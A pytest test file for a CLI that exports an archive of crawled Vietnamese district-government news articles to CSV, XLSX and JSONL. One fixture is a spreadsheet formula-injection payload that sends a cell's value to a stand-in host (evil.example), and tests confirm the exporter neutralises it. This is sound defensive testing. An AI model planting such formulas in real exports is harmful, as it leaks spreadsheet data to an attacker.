"""`govnews export`: files read back (CSV bytes, XLSX cells, JSONL), filters, the column contract
in docs/columns.md, atomic output and one-line errors."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import subprocess
import sys
import time
from datetime import date, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from archive.db import open_db
from archive.store import ArchiveWriter
from exports import export_table
from exports.atomic import AtomicOutput
from exports.tables import KINDS, TABLES, Column, Filters
from exports.writers import BOM, csv_cell
from govnews.cli import cli as govnews_cli

ROOT = Path(__file__).resolve().parent.parent

SEED_TITLE = "Huyện Châu Thành triển khai các giải pháp nâng cao chỉ số PAPI của tỉnh"
SEED_LEAD = "Để nâng cao chỉ số PAPI của tỉnh, thời gian qua Ủy ban nhân dân huyện Châu Thành."
SEED_BODY = (
    "Trong thời gian qua, Ủy ban nhân dân huyện đã cụ thể hóa các văn bản của tỉnh.\n"
    'Đồng chí Đặng Bảo Xuyên cho biết: "Phòng Nội vụ đã tham mưu", đúng hẹn.\r\n'
    "Thời gian tới, huyện tiếp tục triển khai./."
)
AGENCY = "ỦY BAN NHÂN DÂN HUYỆN CHÂU THÀNH - TỈNH SÓC TRĂNG"
PHONES = ["+842993834570", "+842993834566"]
FAX = ["+842993834670"]
EMAIL = "vpubndchauthanh@gmail.com"
INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
SEED_URL = (
    "https://chauthanh.soctrang.gov.vn/huyenchauthanh/1308/29780/1001/397719/"
    "Tin-tuc/Huyen-Chau-Thanh-trien-khai.aspx"
)


def _article(title, published, views, **extra):
    data = {
        "title": title,
        "lead": extra.pop("lead", "Tóm tắt."),
        "body_text": extra.pop("body", "Nội dung bài viết."),
        "body_html": "<p>x</p>",
        "published_at": published,
        "author": extra.pop("author", None),
        "category": extra.pop("category", "Tin tức - Sự kiện"),
        "view_count": views,
        "images": extra.pop("images", []),
        "attachments": extra.pop("attachments", []),
    }
    assert not extra
    return data


def build_archive(path: Path) -> Path:
    w = ArchiveWriter(path, batch_size=3)
    w.sync_sites(
        [
            {
                "id": "chauthanh",
                "name": "Huyện Châu Thành",
                "base_url": "https://chauthanh.soctrang.gov.vn",
                "platform": "vnportal",
                "sname": "huyenchauthanh",
                "sid": "1308",
                "agency": AGENCY,
                "province_before": "Sóc Trăng",
                "province_after": "Cần Thơ",
                "status": "active",
            },
            {"id": "kesach", "name": "Huyện Kế Sách", "platform": "vnportal"},
        ]
    )
    contact = {
        "agency": AGENCY,
        "address": "Khóm 2, thị trấn Châu Thành, huyện Châu Thành, tỉnh Sóc Trăng",
        "phones": PHONES,
        "fax": FAX,
        "emails": [EMAIL],
        "editor": "Ông Nguyễn Văn A - Phó Chủ tịch UBND huyện",
        "licence": "Giấy phép số 01/GP-TTĐT",
    }
    counter = {"online": 12, "today": 340, "week": 2100, "month": 9000, "total": 1234567}

    # crawl 1
    c1 = w.start_crawl(sites=["chauthanh", "kesach"])
    t1 = "2024-01-10T03:00:00Z"
    w.put_article(
        crawl_id=c1,
        site="chauthanh",
        article_id="397719",
        url=SEED_URL,
        fetched_at=t1,
        data=_article(
            SEED_TITLE,
            "2023-07-18T08:30:00+07:00",
            150,
            lead=SEED_LEAD,
            body=SEED_BODY,
            author="YV - Phòng NV",
            images=[
                {"url": "https://chauthanh.soctrang.gov.vn/Upload/1308/a.jpg", "caption": "Ảnh 1"},
                {"url": "https://chauthanh.soctrang.gov.vn/Upload/1308/b.jpg", "caption": None},
            ],
            attachments=[
                {"url": "https://chauthanh.soctrang.gov.vn/Upload/kh.pdf", "name": "Kế hoạch"}
            ],
        ),
    )
    w.put_article(
        crawl_id=c1,
        site="chauthanh",
        article_id="397720",
        url="https://chauthanh.soctrang.gov.vn/a/397720",
        fetched_at=t1,
        data=_article(INJECTED, "2024-03-02T09:00:00+07:00", 40, lead="- Gạch đầu dòng"),
    )
    w.put_article(
        crawl_id=c1,
        site="kesach",
        article_id="5002",
        url="https://kesach.soctrang.gov.vn/a/5002",
        fetched_at=t1,
        data=_article(
            "Nạo vét kênh thủy lợi phục vụ sản xuất",
            "2024-11-15T14:00:00+07:00",
            300,
            category="Kinh tế",
        ),
    )
    w.put_site_snapshot(
        crawl_id=c1, site="chauthanh", observed_at=t1, contact=contact, counter=counter
    )
    w.put_site_snapshot(crawl_id=c1, site="kesach", observed_at=t1, contact={}, counter=None)
    w.finish_crawl(c1)

    # crawl 2: same contact, views re-read
    c2 = w.start_crawl(sites=["chauthanh"])
    t2 = "2024-06-01T03:00:00Z"
    w.put_article(
        crawl_id=c2,
        site="chauthanh",
        article_id="397719",
        url=SEED_URL,
        fetched_at=t2,
        data=_article(
            SEED_TITLE,
            "2023-07-18T08:30:00+07:00",
            203,
            lead=SEED_LEAD,
            body=SEED_BODY,
            author="YV - Phòng NV",
            images=[
                {"url": "https://chauthanh.soctrang.gov.vn/Upload/1308/a.jpg", "caption": "Ảnh 1"},
                {"url": "https://chauthanh.soctrang.gov.vn/Upload/1308/b.jpg", "caption": None},
            ],
            attachments=[
                {"url": "https://chauthanh.soctrang.gov.vn/Upload/kh.pdf", "name": "Kế hoạch"}
            ],
        ),
    )
    w.put_site_snapshot(
        crawl_id=c2,
        site="chauthanh",
        observed_at=t2,
        contact=contact,
        counter=dict(counter, total=1300000),
    )
    w.finish_crawl(c2)

    # crawl 3: the phone number changed
    c3 = w.start_crawl(sites=["chauthanh"])
    w.put_site_snapshot(
        crawl_id=c3,
        site="chauthanh",
        observed_at="2025-02-01T03:00:00Z",
        contact=dict(contact, phones=["+842993834999"]),
        counter=dict(counter, total=1400000),
    )
    w.finish_crawl(c3)
    w.close()
    return path


@pytest.fixture(scope="module")
def archive_path(tmp_path_factory) -> Path:
    return build_archive(tmp_path_factory.mktemp("export") / "govnews.db")


def run(*args: str, archive: Path | None = None):
    runner = CliRunner()
    extra = ["--db", str(archive)] if archive is not None else []
    return runner.invoke(govnews_cli, ["export", *args, *extra], catch_exceptions=False)


def read_csv(path: Path) -> tuple[bytes, list[dict]]:
    data = path.read_bytes()
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return data, list(csv.DictReader(io.StringIO(text[1:], newline="")))


def seed_row(rows: list[dict]) -> dict:
    (row,) = [r for r in rows if r["article_id"] == "397719"]
    return row


# ------------------------------------------------------------------------------ CSV


def test_csv_articles_exact_values(archive_path, tmp_path):
    out = tmp_path / "bai-viet.csv"
    res = run("articles", "-o", str(out), archive=archive_path)
    assert res.exit_code == 0, res.output
    data, rows = read_csv(out)
    assert data.startswith(b"\xef\xbb\xbf")
    header = data[3:].split(b"\r\n", 1)[0].decode()
    assert header.split(",") == list(TABLES["articles"].column_names)
    # every record ends with CRLF; bare LFs only inside quoted bodies
    assert data.endswith(b"\r\n")
    seed = seed_row(rows)
    assert seed["site"] == "chauthanh"
    assert seed["title"] == SEED_TITLE
    assert seed["view_count"] == "203"
    assert seed["published_at"] == "2023-07-18T08:30:00+07:00"
    assert seed["published_date_vn"] == "18/07/2023"
    assert seed["body_text"] == SEED_BODY  # newlines and quotes kept inside the quotes
    assert seed["author"] == "YV - Phòng NV"
    assert seed["images"] == (
        "https://chauthanh.soctrang.gov.vn/Upload/1308/a.jpg; "
        "https://chauthanh.soctrang.gov.vn/Upload/1308/b.jpg"
    )
    assert seed["attachments"] == "https://chauthanh.soctrang.gov.vn/Upload/kh.pdf"
    assert seed["first_seen_at"] == "2024-01-10T03:00:00Z"
    assert seed["last_fetched_at"] == "2024-06-01T03:00:00Z"
    # fixed order: by site, then publication date
    assert [r["article_id"] for r in rows] == ["397719", "397720", "5002"]


def test_csv_formula_injection_neutralised_and_raw(archive_path, tmp_path):
    out = tmp_path / "a.csv"
    assert run("articles", "-o", str(out), archive=archive_path).exit_code == 0
    _, rows = read_csv(out)
    (evil,) = [r for r in rows if r["article_id"] == "397720"]
    assert evil["title"] == "'" + INJECTED
    assert evil["lead"] == "'- Gạch đầu dòng"
    raw = tmp_path / "raw.csv"
    assert run("articles", "-o", str(raw), "--raw", archive=archive_path).exit_code == 0
    _, rows = read_csv(raw)
    (evil,) = [r for r in rows if r["article_id"] == "397720"]
    assert evil["title"] == INJECTED


def test_csv_cell_rules():
    assert csv_cell("=1+2") == "'=1+2"
    assert csv_cell("+84") == "'+84"
    assert csv_cell("@SUM(A1)") == "'@SUM(A1)"
    assert csv_cell("\tx") == "'\tx"
    assert csv_cell("\rx") == "\"'\rx\""
    assert csv_cell("a,b") == '"a,b"'
    assert csv_cell('say "hi"') == '"say ""hi"""'
    assert csv_cell("plain Tiếng Việt") == "plain Tiếng Việt"
    assert csv_cell(None) == ""
    assert csv_cell(-5, "int") == "-5"
    assert csv_cell(1234567, "int") == "1234567"
    assert csv_cell("=evil", "int") == "'=evil"  # a stray text in an int column
    assert csv_cell('["+842993834570"]', "phones") == "+842993834570"
    assert csv_cell('["=1+1"]', "phones") == "'=1+1"
    assert csv_cell("=1", raw=True) == "=1"


def test_csv_matches_csv_module_semantics(archive_path):
    """Our fast quoting parses back to exactly the stored values (raw mode)."""
    db = open_db(archive_path, readonly=True)
    try:
        buf = io.BytesIO()
        export_table(db.conn, "articles", buf, "csv", raw=True, columns="title,lead,body_text")
        rows = list(csv.reader(io.StringIO(buf.getvalue().decode("utf-8-sig"), newline="")))
        stored = db.conn.execute(
            "SELECT title, lead, body_text FROM articles ORDER BY site, published_at, id"
        ).fetchall()
    finally:
        db.close()
    assert [tuple(r) for r in rows[1:]] == stored


def test_stdout_default_and_columns(archive_path):
    res = run("articles", "--columns", "view_count,title,published_date_vn", archive=archive_path)
    assert res.exit_code == 0
    text = res.stdout_bytes.decode("utf-8")
    assert text.startswith("\ufeffview_count,title,published_date_vn\r\n")
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert rows[1] == ["203", SEED_TITLE, "18/07/2023"]


# ------------------------------------------------------------------------------ XLSX


def test_xlsx_typed_cells(archive_path, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "bai-viet.xlsx"
    res = run("articles", "-o", str(out), archive=archive_path)
    assert res.exit_code == 0, res.output
    wb = openpyxl.load_workbook(out)
    ws = wb["articles"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:O4"
    values = list(ws.iter_rows(values_only=True))
    assert list(values[0]) == list(TABLES["articles"].column_names)
    assert ws["A1"].font.b
    rows = [dict(zip(values[0], v, strict=True)) for v in values[1:]]
    seed = seed_row(rows)
    assert seed["title"] == SEED_TITLE
    assert seed["view_count"] == 203 and isinstance(seed["view_count"], int)
    assert seed["published_at"] == datetime(2023, 7, 18, 8, 30)
    assert seed["published_date_vn"] == datetime(2023, 7, 18)  # a date cell
    assert seed["first_seen_at"] == datetime(2024, 1, 10, 3, 0)
    assert seed["body_text"] == SEED_BODY
    row_idx = 2 + rows.index(seed)
    assert ws.cell(row_idx, 8).number_format == "dd/mm/yyyy"
    assert ws.cell(row_idx, 3).hyperlink.target == SEED_URL
    assert ws.column_dimensions["D"].width > 30
    (evil,) = [r for r in rows if r["article_id"] == "397720"]
    assert evil["title"] == INJECTED  # kept exact, but as text
    evil_cell = ws.cell(2 + rows.index(evil), 4)
    assert evil_cell.data_type == "s"


def test_xlsx_contacts_text_phones(archive_path, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "danh-ba.xlsx"
    assert run("contacts", "-o", str(out), archive=archive_path).exit_code == 0
    ws = openpyxl.load_workbook(out).active
    values = list(ws.iter_rows(values_only=True))
    assert values[1][3] == "; ".join(PHONES)


# ------------------------------------------------------------------------------ JSONL


def test_jsonl(archive_path, tmp_path):
    out = tmp_path / "a.jsonl"
    assert run("articles", "-o", str(out), archive=archive_path).exit_code == 0
    data = out.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    assert "Châu Thành".encode() in data  # not \u-escaped
    rows = [json.loads(line) for line in data.decode().splitlines()]
    assert list(rows[0]) == list(TABLES["articles"].column_names)
    seed = seed_row(rows)
    assert seed["view_count"] == 203
    assert seed["title"] == SEED_TITLE
    assert seed["published_date_vn"] == "18/07/2023"
    assert seed["images"][0] == "https://chauthanh.soctrang.gov.vn/Upload/1308/a.jpg"
    (evil,) = [r for r in rows if r["article_id"] == "397720"]
    assert evil["title"] == INJECTED


# ------------------------------------------------------------------------------ other tables


def test_contacts_history(archive_path, tmp_path):
    out = tmp_path / "c.csv"
    assert run("contacts", "-o", str(out), archive=archive_path).exit_code == 0
    _, rows = read_csv(out)
    assert [r["site"] for r in rows] == ["chauthanh", "chauthanh"]  # kesach: no contact data
    old, new = rows
    assert old["agency"] == AGENCY
    assert old["phones"] == "+842993834570; +842993834566"
    assert old["fax"] == "+842993834670"
    assert old["emails"] == EMAIL
    assert old["valid_from"] == "2024-01-10T03:00:00Z"
    assert old["valid_to"] == "2025-02-01T03:00:00Z"
    assert new["phones"] == "+842993834999"
    assert new["valid_from"] == "2025-02-01T03:00:00Z"
    assert new["valid_to"] == ""
    # --since keeps only the periods overlapping it
    assert run("contacts", "-o", str(tmp_path / "c2.csv"), "--since", "2025-03-01",
               archive=archive_path).exit_code == 0  # fmt: skip
    _, rows = read_csv(tmp_path / "c2.csv")
    assert [r["phones"] for r in rows] == ["+842993834999"]


def test_views_counters_sites(archive_path):
    res = run("views", "--site", "chauthanh", "--columns", "article_id,observed_at,view_count",
              archive=archive_path)  # fmt: skip
    rows = list(csv.reader(io.StringIO(res.stdout_bytes.decode("utf-8-sig"), newline="")))
    assert rows == [
        ["article_id", "observed_at", "view_count"],
        ["397719", "2024-01-10T03:00:00Z", "150"],
        ["397719", "2024-06-01T03:00:00Z", "203"],
        ["397720", "2024-01-10T03:00:00Z", "40"],
    ]
    res = run("counters", "--format", "jsonl", archive=archive_path)
    rows = [json.loads(x) for x in res.stdout_bytes.decode().splitlines()]
    assert [r["total"] for r in rows] == [1234567, 1300000, 1400000]  # kesach had no counter
    assert list(rows[0]) == list(TABLES["counters"].column_names)
    res = run("sites", "--format", "jsonl", archive=archive_path)
    rows = [json.loads(x) for x in res.stdout_bytes.decode().splitlines()]
    assert [r["id"] for r in rows] == ["chauthanh", "kesach"]
    assert rows[0]["agency"] == AGENCY


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["--site", "kesach"], ["5002"]),
        (["--since", "2024-01-01"], ["397720", "5002"]),
        (["--until", "2023-07-18"], ["397719"]),
        (["--query", "chi so papi"], ["397719"]),
        (["--query", "THỦY LỢI"], ["5002"]),
        (["--category", "kinh te"], ["5002"]),
        (["--min-views", "200"], ["397719", "5002"]),
        (["--site", "chauthanh", "--min-views", "100"], ["397719"]),
    ],
)
def test_article_filters(archive_path, args, expected):
    res = run("articles", "--format", "jsonl", "--columns", "article_id", *args,
              archive=archive_path)  # fmt: skip
    assert res.exit_code == 0, res.output
    assert [json.loads(x)["article_id"] for x in res.stdout_bytes.decode().splitlines()] == expected


def test_views_since_uses_vietnam_days(archive_path):
    # 2024-06-01T03:00Z is 10:00 in Vietnam on 2024-06-01
    res = run("views", "--format", "jsonl", "--since", "2024-06-01", "--until", "2024-06-01",
              archive=archive_path)  # fmt: skip
    rows = [json.loads(x) for x in res.stdout_bytes.decode().splitlines()]
    assert [(r["article_id"], r["view_count"]) for r in rows] == [("397719", 203)]


# ------------------------------------------------------------------------------ the contract


def parse_columns_md() -> dict[str, list[str]]:
    text = (ROOT / "docs" / "columns.md").read_text(encoding="utf-8")
    tables: dict[str, list[str]] = {}
    current = None
    for line in text.splitlines():
        m = re.match(r"^## `(\w+)`", line)
        if m:
            current = tables.setdefault(m.group(1), [])
            continue
        if line.startswith("## "):
            current = None
            continue
        m = re.match(r"^\|\s*\d+\s*\|\s*`(\w+)`\s*\|", line)
        if m and current is not None:
            current.append(m.group(1))
    return tables


def test_docs_columns_match_code():
    documented = parse_columns_md()
    assert set(documented) == set(TABLES)
    for name, table in TABLES.items():
        assert documented[name] == list(table.column_names), name


# ------------------------------------------------------------------------------ output handling


def test_refuses_overwrite_without_force(archive_path, tmp_path):
    out = tmp_path / "a.csv"
    out.write_text("keep me")
    res = run("articles", "-o", str(out), archive=archive_path)
    assert res.exit_code != 0
    assert "--force" in res.stderr and len(res.stderr.strip().splitlines()) == 1
    assert out.read_text() == "keep me"
    res = run("articles", "-o", str(out), "--force", archive=archive_path)
    assert res.exit_code == 0
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")


def test_format_inferred_from_suffix(archive_path, tmp_path):
    out = tmp_path / "x.jsonl"
    assert run("sites", "-o", str(out), archive=archive_path).exit_code == 0
    json.loads(out.read_text().splitlines()[0])


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        (["nope"], "unknown table"),
        (["articles", "--columns", "title,nope"], "unknown column 'nope'"),
        (["articles", "--since", "2024-13-01"], "invalid --since date"),
        (["articles", "--until", "18/07/2023"], "invalid --until date"),
        (["articles", "--min-views", "many"], "invalid --min-views"),
        (["articles", "--site", "hanoi"], "unknown site"),
        (["articles", "--format", "pdf"], "unknown --format"),
        (["articles", "-o", "{tmp}/x.txt"], "cannot tell the format"),
        (["articles", "-o", "{tmp}/x.csv", "--format", "xlsx"], "does not match"),
        (["articles", "--format", "xlsx"], "needs an output file"),
        (["articles", "-o", "{tmp}/missing/x.csv"], "does not exist"),
        (["articles", "-o", "{tmp}"], "is a directory"),
        (["counters", "--query", "papi"], "--query does not apply"),
        (["articles", "--query", '"unterminated'], "invalid --query"),
        (["articles", "--bogus"], "No such option"),
        (["articles", "--workers", "0"], "--workers"),
        ([], "Missing argument"),
    ],
)
def test_bad_input_one_line(archive_path, tmp_path, args, needle):
    args = [a.replace("{tmp}", str(tmp_path)) for a in args]
    res = run(*args, archive=archive_path)
    assert res.exit_code not in (0, None)
    lines = res.stderr.strip().splitlines()
    assert len(lines) == 1, res.stderr
    assert needle in lines[0]
    assert not list(tmp_path.glob("*.tmp-*"))


def test_unwritable_directory(archive_path, tmp_path):
    if os.geteuid() == 0:
        pytest.skip("root can write anywhere")
    d = tmp_path / "ro"
    d.mkdir()
    d.chmod(0o500)
    try:
        res = run("articles", "-o", str(d / "a.csv"), archive=archive_path)
    finally:
        d.chmod(0o700)
    assert res.exit_code != 0 and "not writable" in res.stderr


def test_atomic_output_removes_temp_on_error(tmp_path):
    target = tmp_path / "a.csv"
    with pytest.raises(KeyboardInterrupt):
        with AtomicOutput(target) as fp:
            fp.write(b"half")
            raise KeyboardInterrupt
    assert not target.exists()
    assert list(tmp_path.iterdir()) == []
    with AtomicOutput(target) as fp:
        fp.write(b"whole")
    assert target.read_bytes() == b"whole"
    assert list(tmp_path.iterdir()) == [target]


@pytest.fixture(scope="module")
def big_archive(tmp_path_factory) -> Path:
    """30,000 synthetic articles: above the size where a CSV export goes parallel."""
    db_path = tmp_path_factory.mktemp("big") / "big.db"
    subprocess.run(
        [sys.executable, str(ROOT / "bench" / "synth.py"), "--articles", "30000",
         "--no-fts", "--db", str(db_path), "--quiet"],
        check=True,
    )  # fmt: skip
    return db_path


@pytest.mark.parametrize("suffix", ["jsonl", "csv"])
def test_interrupted_export_leaves_no_file(big_archive, tmp_path, suffix):
    """A real process killed with SIGTERM mid-export (the CSV one on worker processes): no
    file under the final name, no temp file left, no worker left running."""
    out = tmp_path / f"out.{suffix}"
    proc = subprocess.Popen(
        [sys.executable, "-m", "govnews", "export", "articles", "-o", str(out),
         "--db", str(big_archive)],
        stderr=subprocess.PIPE,
    )  # fmt: skip
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline and not list(tmp_path.glob(f"out.{suffix}.tmp-*")):
        time.sleep(0.01)
    assert list(tmp_path.glob(f"out.{suffix}.tmp-*")), "export did not start"
    time.sleep(0.2)  # well into the rows
    proc.send_signal(signal.SIGTERM)
    proc.wait(timeout=20)
    assert proc.returncode != 0
    assert not out.exists()
    assert not list(tmp_path.glob(f"out.{suffix}.tmp-*"))
    assert _children(proc.pid) == []


def test_parallel_csv_is_byte_identical(big_archive, tmp_path):
    """30,000 rows: the default (worker processes) and --workers 1 write the same bytes, to a
    file and to a pipe; filters and --columns go through the parallel path too."""
    base = [sys.executable, "-m", "govnews", "export", "articles", "--db", str(big_archive)]
    one, par = tmp_path / "one.csv", tmp_path / "par.csv"
    subprocess.run([*base, "-o", str(one), "--workers", "1"], check=True)
    subprocess.run([*base, "-o", str(par)], check=True)
    data = one.read_bytes()
    assert data.startswith(BOM) and data.count(b"\r\n") >= 30_001
    assert par.read_bytes() == data
    piped = subprocess.run([*base, "--workers", "3"], check=True, capture_output=True).stdout
    assert piped == data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) == 30_001 and rows[0] == list(TABLES["articles"].column_names)
    filtered = [*base, "--site", "chauthanh", "--since", "2020-01-01", "--columns",
                "article_id,title,images,view_count"]  # fmt: skip
    a = subprocess.run([*filtered, "--workers", "1"], check=True, capture_output=True).stdout
    b = subprocess.run([*filtered, "--workers", "2"], check=True, capture_output=True).stdout
    assert a == b and a.count(b"\r\n") > 100


def test_parallel_csv_small_archive_identical(archive_path, tmp_path):
    """--workers forces the parallel path even for 3 rows: quotes, newlines, an injected
    formula, NULLs and image lists come out exactly as in one process."""
    outs = []
    for workers, raw in (("1", ()), ("2", ()), ("1", ("--raw",)), ("3", ("--raw",))):
        out = tmp_path / f"w{workers}{len(raw)}.csv"
        res = run("articles", "-o", str(out), "--workers", workers, *raw, archive=archive_path)
        assert res.exit_code == 0, res.output
        outs.append(out.read_bytes())
    assert outs[0] == outs[1] and outs[2] == outs[3] and outs[0] != outs[2]
    _, rows = read_csv(tmp_path / "w20.csv")
    assert seed_row(rows)["view_count"] == "203"


def _children(pid: int) -> list[int]:
    out = subprocess.run(["pgrep", "-P", str(pid)], capture_output=True, text=True).stdout
    return [int(p) for p in out.split()]


def _gone(pids: list[int], timeout: float = 10.0) -> bool:
    """True once none of ``pids`` is a live process (zombies count as gone)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        alive = []
        for pid in pids:
            try:
                with open(f"/proc/{pid}/stat") as fh:
                    if fh.read().rsplit(")", 1)[1].split()[0] != "Z":
                        alive.append(pid)
            except FileNotFoundError:
                pass
        if not alive:
            return True
        time.sleep(0.05)
    return False


def _comm(pid: int) -> str | None:
    try:
        with open(f"/proc/{pid}/comm") as fh:
            return fh.read()
    except FileNotFoundError:
        return None


def _start_workers(args: list[str], **popen) -> tuple[subprocess.Popen, list[int]]:
    """Start ``govnews …`` and wait for its two worker processes: forks of it, so children
    with its own command name (not a helper some library runs at import)."""
    proc = subprocess.Popen([sys.executable, "-m", "govnews", *args], **popen)
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        kids = [k for k in _children(proc.pid) if _comm(k) == _comm(proc.pid)]
        if len(kids) == 2:
            return proc, kids
        time.sleep(0.01)
    proc.kill()
    raise AssertionError("no worker processes started")


def test_parallel_export_worker_killed(big_archive):
    """A worker killed with SIGKILL mid-export: the export stops with a one-line error and a
    non-zero exit instead of waiting forever for that worker's chunk, and terminates the other
    worker.  The output is a pipe nobody reads yet, so the export is surely still running."""
    args = ["export", "articles", "--db", str(big_archive), "--workers", "2"]
    proc, kids = _start_workers(args, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    time.sleep(0.3)  # the pipe fills; the workers block on it or on their turn
    os.kill(kids[0], signal.SIGKILL)
    _, err = proc.communicate(timeout=30)
    assert proc.returncode == 2
    assert err.decode().strip().splitlines() == [
        "Error: export worker process failed (exit code -9)"
    ]
    assert _gone(kids)


def test_parallel_export_into_closed_pipe_stops_quietly(big_archive):
    """`govnews export articles | head`: the reader goes away while the workers write; the
    export stops with exit code 0, nothing on stderr and no worker left."""
    args = ["export", "articles", "--db", str(big_archive), "--workers", "2"]
    proc, kids = _start_workers(args, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert proc.stdout.read(1000).startswith(BOM + b"site,article_id,url,title")
    proc.stdout.close()
    assert proc.wait(timeout=30) == 0
    assert proc.stderr.read() == b""
    assert _gone(kids)


def test_parallel_export_parent_killed_leaves_no_workers(big_archive, tmp_path):
    """The parent killed with SIGKILL (it cannot clean up): its workers notice and exit."""
    out = tmp_path / "out.csv"
    args = ["export", "articles", "--db", str(big_archive), "--workers", "2", "-o", str(out)]
    proc, kids = _start_workers(args)
    proc.kill()
    proc.wait(timeout=10)
    assert _gone(kids)
    assert not out.exists()


@pytest.mark.parametrize("mode", ["wb", "ab"])
def test_parallel_csv_into_redirected_stdout(big_archive, tmp_path, mode):
    """stdout redirected to a file (``> f``: chunks placed by offset after what the file
    holds) or appended to (``>> f``: O_APPEND, where Linux ignores offsets, so chunks are
    written in turn): either way the same bytes as one process, after the existing text."""
    base = [sys.executable, "-m", "govnews", "export", "articles", "--db", str(big_archive)]
    one = subprocess.run([*base, "--workers", "1"], check=True, capture_output=True).stdout
    target = tmp_path / "redirected.csv"
    target.write_bytes(b"existing line\r\n")
    with open(target, mode) as fh:
        if mode == "wb":
            fh.write(b"existing line\r\n")
            fh.flush()
        subprocess.run([*base, "--workers", "2"], check=True, stdout=fh)
    assert target.read_bytes() == b"existing line\r\n" + one


_CELL_TEXT = st.text(alphabet=st.sampled_from(list('ab đ,"\r\n=+-@\t\'; ')), max_size=12)
_CELLS = st.one_of(
    st.none(),
    _CELL_TEXT,
    _CELL_TEXT.map(lambda t: t.encode("utf-8")),
    st.integers(min_value=-(10**12), max_value=10**12),
    st.lists(st.sampled_from(["http://x/a.jpg", "+842993861245", "a,b", '"q"', "=1"]), max_size=3)
    .map(lambda items: json.dumps(items).encode()),
    st.lists(st.sampled_from(["http://x/a.pdf", 'c"d']), max_size=3)
    .map(lambda urls: json.dumps([{"url": u, "name": "n"} for u in urls]).encode()),
)


@settings(max_examples=300, deadline=None)
@given(kinds=st.lists(st.sampled_from(KINDS), min_size=1, max_size=6), data=st.data())
def test_csv_renderer_follows_the_cell_rules(kinds, data):
    """write_csv's compiled row renderer (one unrolled expression per column, pieces joined
    per chunk) gives, for any mix of values and column kinds, exactly the cells of the
    converter functions that define the rules, with ``--raw`` and without."""
    from exports.writers import csv_converters, write_csv

    columns = [Column(f"c{i}", kind, f"c{i}") for i, kind in enumerate(kinds)]
    rows = data.draw(st.lists(st.tuples(*[_CELLS for _ in kinds]), max_size=150))
    for raw in (False, True):
        convs = csv_converters(columns, raw)
        expected = b"".join(
            b",".join(conv(v) for conv, v in zip(convs, row, strict=True)) + b"\r\n"
            for row in rows
        )
        buf = io.BytesIO()
        assert write_csv(buf, columns, rows, raw=raw, bom=False) == len(rows)
        header = (",".join(c.name for c in columns) + "\r\n").encode()
        assert buf.getvalue() == header + expected


def test_filters_api(archive_path):
    db = open_db(archive_path, readonly=True)
    try:
        buf = io.BytesIO()
        n = export_table(
            db.conn,
            "articles",
            buf,
            "jsonl",
            filters=Filters.build(since=date(2024, 1, 1), sites=["chauthanh"]),
        )
    finally:
        db.close()
    assert n == 1
